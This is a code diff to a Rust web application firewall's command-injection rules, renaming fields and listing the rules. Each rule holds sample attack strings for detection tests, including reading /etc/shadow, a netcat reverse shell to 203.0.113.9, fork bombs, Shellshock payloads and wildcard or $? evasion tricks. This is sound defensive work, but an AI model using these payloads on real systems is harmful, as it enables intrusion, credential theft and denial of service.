@@ -3,14 +3,31 @@
 use waf_shared::catalog::Leaf;
 
 use crate::field::Places;
-use crate::rule::{Rule, STRONG, Test};
+use crate::rule::{Rule, RuleMatcher, STRONG};
+
+/// The rules of this file.
+pub(super) static RULES: &[&Rule] = &[
+    &COMMAND,
+    &COMMAND_LIKE,
+    &ENGLISH,
+    &SUBSTITUTION,
+    &SUBSTITUTION_LIKE,
+    &ALIAS,
+    &HISTORY,
+    &BRACES,
+    &WILDCARD,
+    &WILDCARD_DIRECTORY,
+    &EVASION,
+    &FORK_BOMB,
+    &SHELLSHOCK,
+];
 
 pub(super) static COMMAND: Rule = Rule {
     id: "command-injection-unix-commands/command-line",
     leaf: Leaf::CommandInjectionUnixCommands,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A program of a Unix system stands in a command's place, with arguments of its kind.",
     attacks: &[
         "127.0.0.1; cat /etc/hostname",
@@ -23,7 +40,7 @@ pub(super) static COMMAND: Rule = Rule {
         "img.png; c\\at /etc/shadow",
         "; nc -e /bin/sh 203.0.113.9 4444",
     ],
-    everyday: &[
+    benign: &[
         "cat and dog; find more",
         "changed:\n- bin/setup\n- src/main.rs",
         "who is it? | time to go",
@@ -50,10 +67,10 @@ pub(super) static COMMAND_LIKE: Rule = Rule {
     leaf: Leaf::CommandInjectionUnixCommands,
     weight: 1,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "Something that could be a Unix command, or prose about one.",
     attacks: &["perl -v", "please tell me; tail -f", "we had it all; wget some rest"],
-    everyday: &["Terms & conditions", "echo chamber", "kill two birds with one stone"],
+    benign: &["Terms & conditions", "echo chamber", "kill two birds with one stone"],
 };
 
 pub(super) static ENGLISH: Rule = Rule {
@@ -61,10 +78,10 @@ pub(super) static ENGLISH: Rule = Rule {
     leaf: Leaf::CommandInjectionEnglishWords,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "An everyday word that is also a command stands in a command's place.",
     attacks: &["127.0.0.1; who", "a | sort", "x && date -u", "127.0.0.1; cat notes.txt"],
-    everyday: &["a sorted list", "the date; the time", "find more on page 5"],
+    benign: &["a sorted list", "the date; the time", "find more on page 5"],
 };
 
 pub(super) static SUBSTITUTION: Rule = Rule {
@@ -72,7 +89,7 @@ pub(super) static SUBSTITUTION: Rule = Rule {
     leaf: Leaf::CommandInjectionShellSubstitution,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A shell's substitution runs a command or rewrites a parameter in place.",
     attacks: &[
         "$(id)",
@@ -84,7 +101,7 @@ pub(super) static SUBSTITUTION: Rule = Rule {
         "${PATH##*/}",
         "~+",
     ],
-    everyday: &[
+    benign: &[
         "Hello ${name}, your order ${order.id} is on its way",
         "use `git status` first",
         "$100 (approx.)",
@@ -100,10 +117,10 @@ pub(super) static SUBSTITUTION_LIKE: Rule = Rule {
     leaf: Leaf::CommandInjectionShellSubstitution,
     weight: 1,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "An expansion of shell parameters or arithmetic within a text.",
     attacks: &["total=$((6*7))", "the script uses ${file%%.*} here", "see ${path//a/b} for more"],
-    everyday: &["${name}", "#{name} and {{name}}", "Price: $(15)"],
+    benign: &["${name}", "#{name} and {{name}}", "Price: $(15)"],
 };
 
 pub(super) static ALIAS: Rule = Rule {
@@ -111,10 +128,10 @@ pub(super) static ALIAS: Rule = Rule {
     leaf: Leaf::CommandInjectionShellAliases,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A shell alias is defined.",
     attacks: &["alias q=env;q", "x; alias -g w=whoami", "alias ..='cd ..'"],
-    everyday: &["alias", "his alias was Bob", "an alias for x = y"],
+    benign: &["alias", "his alias was Bob", "an alias for x = y"],
 };
 
 pub(super) static HISTORY: Rule = Rule {
@@ -122,10 +139,10 @@ pub(super) static HISTORY: Rule = Rule {
     leaf: Leaf::CommandInjectionShellHistory,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A command is recalled from the shell's history.",
     attacks: &["!-1", "; !-2", "sudo !!:p", "!-1!-2"],
-    everyday: &["Wow!!", "n!-1 permutations", "wait!-1 more"],
+    benign: &["Wow!!", "n!-1 permutations", "wait!-1 more"],
 };
 
 pub(super) static BRACES: Rule = Rule {
@@ -133,10 +150,10 @@ pub(super) static BRACES: Rule = Rule {
     leaf: Leaf::CommandInjectionBraceExpansion,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A command and its arguments are written as a brace list.",
     attacks: &["{cat,/etc/passwd}", ";{ls,-la}", "{,ip,a}"],
-    everyday: &["{\"a\":1,\"b\":2}", "{id,name}", "a{color:red;margin:0,1}"],
+    benign: &["{\"a\":1,\"b\":2}", "{id,name}", "a{color:red;margin:0,1}"],
 };
 
 pub(super) static WILDCARD: Rule = Rule {
@@ -144,10 +161,10 @@ pub(super) static WILDCARD: Rule = Rule {
     leaf: Leaf::CommandInjectionShellWildcards,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A path whose directories are hidden behind wildcards.",
     attacks: &["/???/c?t", "cat /et*/*wd", "; /b?n/ls"],
-    everyday: &["Does the * shine bright?", "*/*; q=0.8", "really? /sure"],
+    benign: &["Does the * shine bright?", "*/*; q=0.8", "really? /sure"],
 };
 
 pub(super) static WILDCARD_DIRECTORY: Rule = Rule {
@@ -155,13 +172,13 @@ pub(super) static WILDCARD_DIRECTORY: Rule = Rule {
     leaf: Leaf::CommandInjectionShellWildcards,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Pattern {
+    matcher: RuleMatcher::Pattern {
         regex: r#"(?:^|[\s;&|"'=`(])/(?:[\w.-]+/)*[\w.-]*(?:\w[*?]|[*?]\w|\?\?)[\w.*?-]*/[\w.*?/-]*\w"#,
         literals: &["*", "?"],
     },
     summary: "An absolute path with wildcards in the name of a directory.",
     attacks: &["/et*/*wd", "/b?n/ls", "/e*c/passwd", "/usr/b*/id", "x=/???/id", ";/v?r/l?g/x"],
-    everyday: &["*/*; q=0.8", "really? /sure", "src/*/mod.rs", "/api/*/users", "/search?q=a/b", "4 * 3 / 2"],
+    benign: &["*/*; q=0.8", "really? /sure", "src/*/mod.rs", "/api/*/users", "/search?q=a/b", "4 * 3 / 2"],
 };
 
 pub(super) static EVASION: Rule = Rule {
@@ -169,10 +186,10 @@ pub(super) static EVASION: Rule = Rule {
     leaf: Leaf::CommandInjectionEvasionTricks,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A word is cut by expansions that come to nothing.",
     attacks: &["host;c$?at /et$?c/pas$?swd", "x;wh$@oami", "cat$u /etc$u/passwd"],
-    everyday: &["it costs $5; pay in cash", "a$b", "US$ and C$"],
+    benign: &["it costs $5; pay in cash", "a$b", "US$ and C$"],
 };
 
 pub(super) static FORK_BOMB: Rule = Rule {
@@ -180,10 +197,10 @@ pub(super) static FORK_BOMB: Rule = Rule {
     leaf: Leaf::CommandInjectionForkBomb,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A shell function that starts itself twice.",
     attacks: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f() & f(); }; f"],
-    everyday: &["hello (world) | test", "function a() { return b || c; }", "http://example.com:8080/path"],
+    benign: &["hello (world) | test", "function a() { return b || c; }", "http://example.com:8080/path"],
 };
 
 pub(super) static SHELLSHOCK: Rule = Rule {
@@ -191,7 +208,7 @@ pub(super) static SHELLSHOCK: Rule = Rule {
     leaf: Leaf::CommandInjectionShellshock,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A shell function definition where a value is expected.",
     attacks: &[
         "() { :; }; echo; /bin/id",
@@ -199,5 +216,5 @@ pub(super) static SHELLSHOCK: Rule = Rule {
         "() { _; } >_[$($())] { id; }",
         "a=() { :;}; ping -c 1 203.0.113.9",
     ],
-    everyday: &["function () { return 1; }", "() => { return 1; }", "call() {x}"],
+    benign: &["function () { return 1; }", "() => { return 1; }", "call() {x}"],
 };
